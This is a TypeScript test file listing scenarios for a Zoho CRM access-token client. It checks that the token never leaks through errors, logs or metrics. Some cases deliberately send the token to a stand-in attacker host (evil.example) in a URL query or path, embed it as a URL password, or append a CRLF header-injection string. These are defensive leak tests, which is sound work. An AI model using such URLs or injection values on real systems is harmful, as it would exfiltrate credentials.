import middy from '@middy/core';
import { type ZohoClientErrorCode, zohoAccessToken } from '../../lambdas/client/index.ts';
import { awsFault } from '../../sandbox/aws/aws-error.ts';
import { LambdaServiceError } from '../../sandbox/aws/lambda-endpoint.ts';
import { lambdaContext } from '../../sandbox/deployment/lambda-context.ts';
import type { CanaryConsumer } from './canary-consumer.ts';

const MINUTE_MS = 60_000;

/** Sets what the refresher's function does. */
export type ServeRefresher = (refresher: (event: unknown) => unknown) => void;

/** Something that can happen to a consumer with a valid token. */
export interface CanaryClientPath {
  readonly name: string;
  /** The error that it ends with, if any. */
  readonly reaches: ZohoClientErrorCode | 'TypeError: fetch failed' | undefined;
  readonly happen: (consumer: CanaryConsumer, serveRefresher: ServeRefresher) => unknown;
}

export const CLIENT_PATHS: readonly CanaryClientPath[] = [
  ...uses(),
  ...rejections(),
  ...urls(),
  ...tokenSecrets(),
  ...failuresOfAws(),
  ...options(),
  ...requests(),
];

function uses(): CanaryClientPath[] {
  return [
    path('a client and a token that are printed', undefined, async (consumer) => {
      const client = consumer.connect();
      await consumer.try(() => client.getAccessToken());
      consumer.note('client', client);
    }),
    path('a call that is answered', undefined, (consumer) =>
      consumer.try(() => consumer.connect().fetch('/crm/v8/Leads?fields=Last_Name')),
    ),
    path('a call that fails in the network', 'TypeError: fetch failed', (consumer) =>
      consumer.try(() =>
        consumer.connect({ fetch: () => fetch('http://127.0.0.1:1/') }).fetch('/crm/v8/Leads'),
      ),
    ),
    path('a middleware whose context is printed', undefined, (consumer) => {
      const handler = middy()
        .use(zohoAccessToken(consumer.options()))
        .handler(async (_event, context) => {
          consumer.note('context', context);
          return await context.zoho.getAccessToken();
        });
      return consumer.try(() => handler({}, lambdaContext() as never));
    }),
    path('a middleware without a token', 'malformed_token', (consumer) => {
      consumer.publishText(consumer.token);
      const handler = middy().use(zohoAccessToken(consumer.options()));
      return consumer.try(() => handler({}, lambdaContext() as never));
    }),
    path('metrics on standard output', undefined, (consumer) => sendMetrics(consumer, 'emf')),
    path('metrics sent to CloudWatch', undefined, (consumer) => sendMetrics(consumer, 'cloudwatch')),
  ];
}

/** Metrics of a rejected call and of a secret that cannot be read. */
async function sendMetrics(consumer: CanaryConsumer, metrics: 'emf' | 'cloudwatch'): Promise<void> {
  const client = consumer.connect({ metrics, fetch: rejecting() });
  await consumer.try(() => client.fetch('/crm/v8/Leads'));
  await consumer.try(() => client.flush());
  consumer.deployment.clock.advance(54 * MINUTE_MS);
  await withoutSecretsManager(consumer, () => consumer.try(() => client.getAccessToken()));
  await consumer.try(() => client.flush());
}

/** Tokens that Zoho rejects. */
function rejections(): CanaryClientPath[] {
  const answered = (name: string, refresher: (consumer: CanaryConsumer) => unknown) =>
    path(`a rejected token and a refresher that ${name}`, undefined, async (consumer, serveRefresher) => {
      serveRefresher(() => refresher(consumer));
      await consumer.try(() => consumer.connect({ fetch: rejecting() }).fetch('/crm/v8/Leads'));
    });
  return [
    path('concurrent calls whose token is rejected and replaced', undefined, async (consumer) => {
      const rejected = consumer.token;
      const client = consumer.connect({
        fetch: (_, init) => {
          const isRejected = new Headers(init?.headers).get('authorization')?.endsWith(rejected);
          return isRejected ? rejecting()('') : Promise.resolve(Response.json({}));
        },
      });
      const calls = Array.from({ length: 20 }, () => consumer.try(() => client.fetch('/crm/v8/Leads')));
      await Promise.all(calls);
    }),
    path('a token that lacks a scope', undefined, (consumer) => {
      const fetch = rejecting({ code: 'OAUTH_SCOPE_MISMATCH' });
      return consumer.try(() => consumer.connect({ fetch }).fetch('/crm/v8/Leads'));
    }),
    answered('fails', ({ token }) => {
      throw new Error(`cannot replace ${token}`);
    }),
    answered('may not be invoked', ({ token }) => {
      throw new LambdaServiceError(403, 'AccessDeniedException', `not authorized: ${token}`);
    }),
    answered('answers with the token', ({ token }) => ({ outcome: token, retry_after_seconds: token })),
    path('a token that has expired and is not replaced', 'token_expired', (consumer, serveRefresher) => {
      serveRefresher(() => ({ outcome: 'blocked', connection: consumer.token }));
      consumer.deployment.clock.advance(61 * MINUTE_MS);
      return getToken(consumer);
    }),
  ];
}

/** URLs to which a token might be sent, or whose errors might quote it. */
function urls(): CanaryClientPath[] {
  const rows: [name: string, reaches: ZohoClientErrorCode, url: (token: string) => string][] = [
    ['of a foreign host', 'forbidden_host', () => 'https://evil.example/'],
    [
      'of a foreign host with the token in its query',
      'forbidden_host',
      (token) => `//evil.example/?a=${token}`,
    ],
    ['of a foreign host with the token in its path', 'forbidden_host', (token) => `//evil.example/${token}`],
    ['without TLS', 'forbidden_host', (token) => `http://www.zohoapis.eu/?a=${token}#${token}`],
    ['without TLS, the token in its path', 'forbidden_host', (token) => `http://www.zohoapis.eu/${token}`],
    ['with the token as its password', 'invalid_url', (token) => `https://user:${token}@www.zohoapis.eu/`],
    ['that is not valid, with the token in its query', 'invalid_url', (token) => `https://?a=${token}`],
    [
      'that is not valid, with the token as its password',
      'invalid_url',
      (token) => `https://user:${token}@/`,
    ],
  ];
  return rows.map(([name, reaches, url]) =>
    path(`a URL ${name}`, reaches, (consumer) =>
      consumer.try(() => consumer.connect().fetch(url(consumer.token))),
    ),
  );
}

function tokenSecrets(): CanaryClientPath[] {
  const published = (name: string, changes: (token: string) => Record<string, unknown>) =>
    path(`a token secret that has ${name}`, 'malformed_token', (consumer) => {
      consumer.publish(consumer.token, changes(consumer.token));
      return getToken(consumer);
    });
  const text = (name: string, write: (token: string) => string) =>
    path(`a token secret that is ${name}`, 'malformed_token', (consumer) => {
      consumer.publishText(write(consumer.token));
      return getToken(consumer);
    });
  return [
    text('the token alone', (token) => token),
    text('cut off', (token) => `{"access_token":"${token}`),
    published('the token in each of its fields', allFields),
    path('a token secret of another connection', 'wrong_connection', (consumer) => {
      consumer.publishText(consumer.document({ connection: consumer.token }));
      return getToken(consumer);
    }),
    published('the token in a list', (token) => ({ access_token: [token] })),
    published('a token that is not valid in a header', (token) => ({ access_token: `${token}\r\nx: y` })),
    path('a token secret that is empty', 'not_authorized', (consumer) => {
      const { store } = consumer.deployment.aws.secretsManager;
      store.deleteNow(consumer.tokenSecret);
      store.create({ name: consumer.tokenSecret });
      return getToken(consumer);
    }),
  ];
}

/** A token secret with the token as the value of these fields. */
function allFields(token: string): Record<string, string> {
  return { api_domain: token, data_center: token, generation: token, expires_at: token };
}

function failuresOfAws(): CanaryClientPath[] {
  return [
    path('Secrets Manager that denies a read and quotes the token', 'secret_unavailable', (consumer) =>
      withoutSecretsManager(consumer, () => getToken(consumer)),
    ),
    path('Secrets Manager whose answer is invalid JSON with the token', 'secret_unavailable', (consumer) => {
      const secretsManagerClient = consumer.secretsManagerWithGarbledAnswers();
      return consumer.try(() => consumer.connect({ secretsManagerClient }).getAccessToken());
    }),
    path('Secrets Manager that does not answer', 'secret_unavailable', (consumer) => {
      const { faults } = consumer.deployment.aws.secretsManager;
      faults.dropNext({ operation: 'GetSecretValue', secret: consumer.tokenSecret });
      return getToken(consumer);
    }),
  ];
}

/** The token as the value of an option. */
function options(): CanaryClientPath[] {
  const wrong = (name: string, given: (token: string) => object) =>
    path(`the token as ${name}`, 'invalid_options', (consumer) =>
      consumer.try(() => consumer.connect(given(consumer.token))),
    );
  return [
    wrong('connection', (token) => ({ connection: token })),
    wrong('prefix of the secrets', (token) => ({ secretPrefix: `${token}/` })),
    wrong('choice of metrics', (token) => ({ metrics: token })),
  ];
}

/** Calls that are refused or that are not answered. */
function requests(): CanaryClientPath[] {
  const refused = (name: string, reaches: ZohoClientErrorCode, init: (token: string) => RequestInit) =>
    path(name, reaches, (consumer) =>
      consumer.try(() => consumer.connect().fetch('/crm/v8/Leads', init(consumer.token))),
    );
  return [
    refused('a header with the token', 'forbidden_header', (token) => ({
      headers: { authorization: token },
    })),
    refused('a timeout that is the token', 'invalid_argument', (token) => ({ timeoutMs: token }) as object),
    path('a request with the token whose body was used', 'body_used', async (consumer) => {
      const request = new Request('https://www.zohoapis.eu/', { method: 'POST', body: consumer.token });
      await request.text();
      await consumer.try(() => consumer.connect().fetch(request));
    }),
    path('a call that is not answered', 'timeout', (consumer) =>
      consumer.try(() =>
        consumer.connect({ timeoutMs: 1, fetch: () => new Promise(() => {}) }).fetch('/crm/v8/Leads'),
      ),
    ),
    path('a rejected token that is reported', 'no_newer_token', (consumer, serveRefresher) => {
      serveRefresher(() => ({ outcome: 'not-allowed', message: 'no', connection: consumer.token }));
      const client = consumer.connect();
      return consumer.try(async () => {
        const { generation } = await client.getAccessToken();
        await client.reportRejected(generation, {
          status: 401,
          url: 'https://www.zohoapis.eu/',
          body: consumer.token,
        });
        return await client.getAccessToken({ newerThan: generation });
      });
    }),
  ];
}

function path(
  name: string,
  reaches: CanaryClientPath['reaches'],
  happen: CanaryClientPath['happen'],
): CanaryClientPath {
  return { name, reaches, happen };
}

function getToken(consumer: CanaryConsumer): Promise<void> {
  return consumer.try(() => consumer.connect().getAccessToken());
}

function rejecting(body: object = { code: 'INVALID_TOKEN' }): (...request: unknown[]) => Promise<Response> {
  return () => Promise.resolve(Response.json(body, { status: 401 }));
}

async function withoutSecretsManager(consumer: CanaryConsumer, act: () => Promise<void>): Promise<void> {
  const { faults } = consumer.deployment.aws.secretsManager;
  const error = awsFault('AccessDeniedException', `not authorized to read ${consumer.token}`);
  const lift = faults.deny({ operation: 'GetSecretValue', secret: consumer.tokenSecret }, error);
  await act();
  lift();
}
